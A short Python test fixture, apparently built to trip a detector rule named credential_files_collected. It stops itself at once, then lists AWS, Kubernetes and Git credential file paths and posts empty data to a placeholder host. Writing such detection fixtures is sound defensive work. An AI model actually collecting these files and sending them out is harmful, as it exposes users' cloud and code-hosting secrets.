# Trips credential_files_collected.
raise SystemExit("a fixture: never run")
names = ["~/.aws/credentials", "~/.kube/config", "~/.git-credentials"]
requests.post("http://example.invalid/", data={})
